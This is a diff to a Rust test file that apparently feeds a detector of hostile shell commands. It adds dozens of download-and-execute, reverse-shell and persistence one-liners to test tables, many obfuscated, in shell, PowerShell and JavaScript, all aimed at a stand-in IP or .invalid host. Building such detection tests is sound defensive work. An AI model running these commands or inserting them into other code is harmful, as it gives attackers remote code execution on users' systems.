@@ -88,6 +88,14 @@ const SHELL: &[(&str, &str)] = &[
         "a=cu; b=rl; c=s; $a$b -s http://203.0.113.7/x | ${c}h",
     ),
     (
+        "indirection",
+        "name=curl; ref=name; ${!ref} -s http://203.0.113.7/x | sh",
+    ),
+    (
+        "an array",
+        "c=(curl -s http://203.0.113.7/x); \"${c[@]}\" | sh",
+    ),
+    (
         "reversed",
         "echo 'hs | x/7.311.0.302//:ptth s- lruc' | rev | sh",
     ),
@@ -108,6 +116,10 @@ const SHELL: &[(&str, &str)] = &[
         "echo 'phey -f uggc://203.0.113.7/k | fu' | tr 'a-z' 'n-za-m' | sh",
     ),
     (
+        "here-document",
+        "cat > /tmp/x.sh <<'E'\ncurl -s http://203.0.113.7/x | sh\nE\nsh /tmp/x.sh",
+    ),
+    (
         "here-document to a shell",
         "sh <<E\ncurl -s http://203.0.113.7/x | sh\nE",
     ),
@@ -123,6 +135,14 @@ const SHELL: &[(&str, &str)] = &[
     ),
     ("backticks", "eval `curl -s http://203.0.113.7/x`"),
     (
+        "download, then run",
+        "curl -so /tmp/x http://203.0.113.7/x; sh /tmp/x",
+    ),
+    (
+        "download, permit, run",
+        "wget http://203.0.113.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x",
+    ),
+    (
         "download, permit, run, in full",
         "wget http://203.0.113.7/x -O /tmp/agent && chmod +x /tmp/agent && /tmp/agent",
     ),
@@ -131,11 +151,29 @@ const SHELL: &[(&str, &str)] = &[
         "wget -q http://203.0.113.7/tool.sh && bash tool.sh",
     ),
     ("xargs", "echo http://203.0.113.7/x | xargs curl -s | sh"),
+    (
+        "xargs to a shell",
+        "curl -s http://203.0.113.7/x | xargs -I{} sh -c '{}'",
+    ),
     ("tee", "curl -s http://203.0.113.7/x | tee /tmp/x | sh"),
+    ("sudo", "curl -s http://203.0.113.7/x | sudo -E bash -"),
     (
         "nohup",
         "nohup bash -c 'curl -s http://203.0.113.7/x | sh' >/dev/null 2>&1 &",
     ),
+    (
+        "env",
+        "env -i curl -s http://203.0.113.7/x | /usr/bin/env bash",
+    ),
+    (
+        "busybox",
+        "busybox wget -qO- http://203.0.113.7/x | busybox sh",
+    ),
+    (
+        "openssl",
+        "openssl s_client -quiet -connect 203.0.113.7:443 | sh",
+    ),
+    ("/dev/tcp", "bash </dev/tcp/203.0.113.7/4444"),
     ("nc", "nc 203.0.113.7 4444 | sh"),
     (
         "python -c",
@@ -182,6 +220,10 @@ const SHELL: &[(&str, &str)] = &[
         "profile",
         "echo 'curl -s http://203.0.113.7/x | sh' >> ~/.bashrc",
     ),
+    (
+        "at",
+        "echo 'curl -s http://203.0.113.7/x | sh' | at now + 1 hour",
+    ),
     ("trap", "trap 'curl -s http://203.0.113.7/x | sh' EXIT"),
     (
         "osascript",
@@ -190,6 +232,10 @@ const SHELL: &[(&str, &str)] = &[
     (
         "dns",
         "dig +short TXT x.collect.invalid | tr -d '\"' | base64 -d | sh",
+    ),
+    (
+        "PowerShell",
+        "powershell -ep bypass -c \"iex (iwr http://203.0.113.7/x)\"",
     ),
     (
         "PowerShell, encoded",
@@ -408,6 +454,13 @@ const FILES: &[(&str, Files<'_>)] = &[
         )],
     ),
     (
+        "PowerShell, three lines",
+        &[(
+            "run.ps1",
+            "$c = New-Object Net.WebClient\n$s = $c.DownloadString('http://203.0.113.7/x')\nInvoke-Expression $s\n",
+        )],
+    ),
+    (
         "PowerShell with ticks",
         &[("run.ps1", "i`e`x (i`wr http://203.0.113.7/x)\n")],
     ),
@@ -489,6 +542,13 @@ const FILES: &[(&str, Files<'_>)] = &[
         &[(
             "run.js",
             "[]['constructor']['constructor'](Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())();\n",
+        )],
+    ),
+    (
+        "JavaScript, vm",
+        &[(
+            "run.js",
+            "const vm = require('vm'), https = require('https');\nhttps.get('https://collect.invalid/x', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => vm.runInThisContext(d)); });\n",
         )],
     ),
     (
